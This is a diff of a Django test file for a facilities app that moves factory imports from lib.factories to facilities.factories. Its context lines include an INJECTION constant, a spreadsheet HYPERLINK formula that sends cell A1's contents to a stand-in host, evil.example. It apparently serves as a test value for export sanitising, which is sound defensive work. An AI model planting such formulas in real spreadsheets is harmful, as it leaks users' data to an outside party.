@@ -11,11 +11,11 @@ from django.core.management import CommandError, call_command
 from django.urls import reverse
 
 from facilities import services
+from facilities.factories import FacilityFactory, SnapshotFactory, UnitFactory
 from facilities.models import Facility
 from facilities.tests.spreadsheets import read_xlsx, registry_counts
 from facilities.transfer.columns import DATASETS
 from facilities.transfer.importer import import_file
-from lib.factories import FacilityFactory, SnapshotFactory, UnitFactory
 
 MODEL_BACKEND = "django.contrib.auth.backends.ModelBackend"
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
